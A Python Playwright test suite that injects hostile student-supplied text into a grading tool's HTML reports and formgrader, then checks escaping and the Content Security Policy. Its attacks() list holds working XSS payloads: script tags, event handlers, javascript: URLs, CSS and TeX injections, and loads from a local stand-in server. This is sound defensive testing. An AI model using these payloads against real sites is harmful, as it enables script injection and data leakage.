"""Pages made of hostile names, ids and messages: no script runs, no request leaves, no text leaves its block.

The texts are drawn: a way to end what stands around a text, an attack, and another way. Each page has a twin, the same
class with harmless texts, and around the texts the two must be built alike. That the content security policy holds by
itself is seen on pages into which attacks are put with nothing escaped.
"""

import http.server
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import nbformat
import numpy as np
import pytest
from playwright.sync_api import Page, expect

from rnncourse.checks.pairs import TWO
from rnngrade.core.desk import Desk
from rnngrade.core.record import Finding, Record
from rnngrade.gradebook.book import GradebookWriter
from rnngrade.gradebook.door import opened
from rnngrade.pages.report.page import write_reports
from rnngrade.roster.students import Person
from tests.grading.made import NAMES, NONE, UNIT, WRITTEN, changed, mistake, outcome, submission
from tests.waiting import until

pytestmark = pytest.mark.nightly

STUDENTS = ("ada", "alan", "barbara", "charles", "donald", "edsger")
MARKER = "Wanderer"  # in each hostile text, to find it by
RUN = "top.ran=(top.ran||0)+1"

# What ends a text's surroundings, or means something in Markdown, TeX, Jinja or a spreadsheet.
EDGES = [
    *("", "\r", "\r\r", "\r\n\r\n", "\n\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x00", "\u202e", "\ud800"),
    *("</p>", "</li></ul></div>", "</td></tr></table>", "</div></div></div>", "</main>", "</body></html>", "</pre>"),
    *("</style>", "</script>", "</textarea>", "</title>", "</svg>", "-->", "<!--", "]]>", "<![CDATA[", '">', "'>"),
    *("`", "```\n", "~~~\n", "> ", "- ", "# ", "1. ", "| a |\n|---|\n| ", "[x]: ", "![", "[", "](", "***", "    "),
    *("$", "$$", "\\(", "\\[", "\\begin{equation}", "\\end{bmatrix}", "{{", "{%", "{#", "&lt;", "&#60;", "=1+"),
]


def attacks(elsewhere: str) -> list[str]:
    """Attacks that would run a script, or ask a server elsewhere."""
    tex = [
        rf"\href{{javascript:{RUN}}}{{x}}",
        rf"\mmlToken{{mi}}[href='javascript:{RUN}']{{x}}",
        rf"\style{{background:url({elsewhere}/tex)}}{{x}}",
        *(r"\require{html}\class{navbar}{x}", r"\cssId{main}{x}", r"\unicode{x3c}", r"\bbox[9999px,red]{x}"),
        *(r"\fcolorbox{red;position:fixed;top:0;font-size:999px}{red}{x}", r"\colorbox{red;width:99em}{x}"),
        *(r"\bbox[border:99px solid;position:fixed]{x}", r"\rule{9999em}{9999em}", r"\kern-999em\rule{99em}{99em}"),
        *(r"\def\tanh{pwned}", r"\newcommand\tanh{pwned}", r"\let\tanh\sin", r"\DeclareMathOperator\tanh{pwned}"),
        r"\begin{array}{" + "c" * 99 + r"}x\end{array}",
        "{" * 200,
    ]
    return [
        f"<script>{RUN}</script>",
        f"<script src={elsewhere}/script></script>",
        f"<img src={elsewhere}/img onerror={RUN}>",
        f"<img src=data:, onerror={RUN}>",
        f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x><use href={elsewhere}/use#x></svg>",
        f"<math><mtext><table><mglyph><style><img src=data:, onerror={RUN}>",
        f"<iframe srcdoc='<script>{RUN}</script>'></iframe><iframe src={elsewhere}/frame></iframe>",
        f"<iframe src=javascript:{RUN}></iframe><object data={elsewhere}/object></object><embed src={elsewhere}/embed>",
        f"<link rel=stylesheet href={elsewhere}/link><style>@import '{elsewhere}/import';</style>",
        f"<style>*{{background:url({elsewhere}/background)}}</style>",
        f"<div style='position:fixed;inset:0;background:url({elsewhere}/style)'>",
        f"<input autofocus onfocus={RUN}><details open ontoggle={RUN}>",
        f"<video src={elsewhere}/video></video><audio src={elsewhere}/audio autoplay onerror={RUN}></audio>",
        f"<base href={elsewhere}/><form action={elsewhere}/form><input name=x></form>",
        f"<meta http-equiv=refresh content='0;url={elsewhere}/refresh'>",
        f"[x](javascript:{RUN}) ![x]({elsewhere}/markdown) <{elsewhere}/autolink>",
        f"[x]: javascript:{RUN}\n\n[x] ![y][y]\n\n[y]: {elsewhere}/reference",
        f"' onmouseover={RUN} x='",
        f'" onmouseover={RUN} style=position:fixed;inset:0 x="',
        *(
            "<plaintext>",
            "<textarea>",
            "<select>",
            "<template>",
            "<table><caption>",
            "<h1 id=class class=navbar>",
            "</div>" * 9,
        ),
        "{{ ''.__class__ }}{% raw %}",
        *(f"{edge}{command}{edge}" for command in tex for edge in ("$", "$$")),
    ]


def hostile_text(rng: np.random.Generator, elsewhere: str) -> str:
    """A text with two or three attacks in it, between edges."""
    drawn, all_attacks = [MARKER], attacks(elsewhere)
    for _ in range(rng.integers(2, 4)):
        drawn += [EDGES[rng.integers(len(EDGES))], all_attacks[rng.integers(len(all_attacks))]]
    return "".join([*drawn, EDGES[rng.integers(len(EDGES))], MARKER])


Draw = Callable[[str], str]  # a text for what is called so


def fit(text: str) -> str:
    """What a file can hold of a text: records may quote half a surrogate, notebooks have none."""
    return text.encode("utf-8", "replace").decode()


def handed_in(root: Path, draw: Draw) -> Iterator[tuple[Record, bytes]]:
    """A class in which each text that a student can have a hand in is drawn."""
    for number, student in enumerate(STUDENTS):
        made = submission(student, **{NAMES[0]: mistake(NAMES[0]), NAMES[1]: mistake(NAMES[1])})
        findings = tuple(Finding("odd", draw(f"finding {i}"), draw(f"cell {i}"), i < 2) for i in range(4))
        record, notebook = outcome(root, made, findings)
        results = list(record.exercises)
        results[0] = replace(results[0], message=draw("message"), hint=draw("hint"), diagnosis=None, card="")
        results[1] = replace(
            results[1], message=draw("message"), diagnosis=draw("diagnosis").replace(TWO, " "), card=""
        )
        results[2] = replace(results[2], message=draw("message"), status=draw("status"), passed=False, card="")
        record = replace(record, exercises=tuple(results), student=student)
        said = {what: fit(draw(what)) for what in ("stream", "plain", "html", "svg", "latex", "name", "value", "trace")}
        outputs = [
            nbformat.v4.new_output("stream", text=said["stream"]),
            nbformat.v4.new_output("display_data", data={"text/plain": said["plain"], "text/html": said["html"]}),
            nbformat.v4.new_output("display_data", data={"image/svg+xml": said["svg"], "text/latex": said["latex"]}),
            nbformat.v4.new_output("error", ename=said["name"], evalue=said["value"], traceback=[said["trace"]]),
        ]
        notebook = changed(notebook, NAMES[0], source=f"# {fit(draw('code'))}", outputs=outputs)
        notebook = changed(notebook, WRITTEN, source=f"{'' if number else 'x'}{fit(draw('written'))}")
        yield record, notebook


def filled(root: Path, folder: Path, draw: Draw) -> Desk:
    """A desk with such a class, in gradebook and report."""
    desk = Desk(root, folder)
    desk.open()
    with GradebookWriter(desk) as gradebook:
        assert gradebook.enter_unit(UNIT) == []
        for record, notebook in handed_in(root, draw):
            submission(record.student).write(root, desk.submitted)
            desk.keep(record, notebook)
            names = (fit(draw(what)) for what in ("first name", "last name", "email"))
            gradebook.enter_students([Person(record.student, *names)])
            gradebook.put(record, notebook)
    with opened(desk) as book:
        for student in STUDENTS:
            for comment in book.find_submission_notebook(UNIT, UNIT, student).comments:
                comment.manual_comment = fit(draw("comment"))
        book.db.commit()
    write_reports(desk, [UNIT], NONE)
    return desk


class Elsewhere(http.server.ThreadingHTTPServer):
    """A server that pages must never ask; it writes down what it is asked."""

    def __init__(self) -> None:
        asked: list[str] = []

        class Answer(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Answer)
        self.asked = asked
        self.address = f"http://127.0.0.1:{self.server_port}"


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    with Elsewhere() as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


@pytest.fixture(scope="module")
def desks(root: Path, tmp_path_factory: pytest.TempPathFactory, elsewhere: Elsewhere) -> dict[str, Desk]:
    """A hostile class and its harmless twin."""
    rng = np.random.default_rng(0)
    folder = tmp_path_factory.mktemp("desks")
    count = iter(range(10**6))
    return {
        "hostile": filled(root, folder / "hostile", lambda _: hostile_text(rng, elsewhere.address)),
        "harmless": filled(root, folder / "harmless", lambda what: f"{MARKER} {what} {next(count)}"),
    }


# How a page is built: the kinds of its elements, with nothing in those where texts of students stand.
SKELETON = """(blocks) => {
  const shown = (element) => element.matches(blocks)
    ? [element.tagName]
    : [element.tagName, ...[...element.children].filter((e) => !e.matches("code, mjx-container")).map(shown)];
  return JSON.stringify(shown(document.documentElement));
}"""
ATTRIBUTES = """() => [...document.querySelectorAll("*")].flatMap((element) => [...element.attributes])
  .filter((a) => a.name.startsWith("on") || /^\\s*javascript/i.test(a.value))
  .map((a) => `${a.name}=${a.value}`)"""


def require_harmless(page: Page, elsewhere: Elsewhere) -> None:
    """No script has run, nothing was asked of elsewhere, the page is where it was, and nothing waits to run."""
    page.wait_for_timeout(300)  # for what an element's event would start
    assert page.evaluate("top.ran") is None
    assert elsewhere.asked == []
    assert page.evaluate(ATTRIBUTES) == []


def reports(desk: Desk) -> list[Path]:
    return [desk.reports / f"{UNIT}.html", desk.reports / "index.html"]


def test_a_report_on_a_hostile_class_is_built_as_that_on_a_harmless_one(page: Page, desks, elsewhere):
    built = {}
    for name, desk in desks.items():
        for path in reports(desk):
            page.goto(path.as_uri())
            if name == "hostile" and path.stem == UNIT:
                assert MARKER in page.inner_text("body")
            require_harmless(page, elsewhere)
            assert page.url == path.as_uri()
            built[name, path.name] = page.evaluate(SKELETON, "#none")
    for path in reports(desks["hostile"]):
        assert built["hostile", path.name] == built["harmless", path.name]


# --- the policy by itself


def forged(page: Page, elsewhere: Elsewhere, html: str) -> list[str]:
    """A page with each attack put in, nothing escaped; but no policy forbids to lead the whole page away."""
    raw = [
        a for a in attacks(elsewhere.address) if "refresh" not in a and not a.startswith(("<plaintext", "<textarea"))
    ]
    return [html.replace("</body>", f"<div>{attack}</div></body>") for attack in raw]


def test_the_report_s_policy_holds_where_nothing_is_escaped(page: Page, desks, elsewhere, tmp_path):
    path = tmp_path / "forged.html"
    for html in forged(page, elsewhere, reports(desks["harmless"])[0].read_text(encoding="utf-8")):
        path.write_text(html, encoding="utf-8")
        page.goto(path.as_uri())
        assert page.evaluate("top.ran") is None
        assert elsewhere.asked == []


def test_formgrader_s_policy_holds_where_nothing_is_escaped(page: Page, desks, jupyterlab, elsewhere, tmp_path):
    desk = desks["harmless"]
    with opened(desk) as book:
        where = f"formgrader/submissions/{book.find_submission_notebook(UNIT, UNIT, STUDENTS[0]).id}"
    with jupyterlab("rnngrade.cli", "--desk", str(desk.folder), "lab", cwd=tmp_path, home=tmp_path) as lab:
        page.goto(lab)
        address = f"{lab.partition('?')[0]}{where}"
        html = page.request.get(address).text()
        served: dict[str, str] = {}
        page.route(f"{address}?*", lambda route: route.fulfill(response=route.fetch(), body=served["html"]))
        for number, body in enumerate(forged(page, elsewhere, html)[:18]):  # all but what only TeX can do
            served["html"] = body
            page.goto(f"{address}?{number}")
            expect(page.locator("#notebook").first).to_be_attached()
            assert page.evaluate("top.ran") is None
            assert elsewhere.asked == []


def test_without_the_policy_the_attacks_would_succeed(page: Page, elsewhere, tmp_path):
    """A test of the tests: the attacks are ones."""
    path = tmp_path / "open.html"
    chosen = [attack for attack in attacks(elsewhere.address)[:8] if "<style>" not in attack]
    path.write_text("".join(f"<div>{attack}</div>" for attack in chosen), encoding="utf-8")
    page.goto(path.as_uri())
    page.wait_for_function("top.ran > 3")
    until(lambda: {"/script", "/img", "/frame"} <= set(elsewhere.asked), lambda: elsewhere.asked)
    elsewhere.asked.clear()
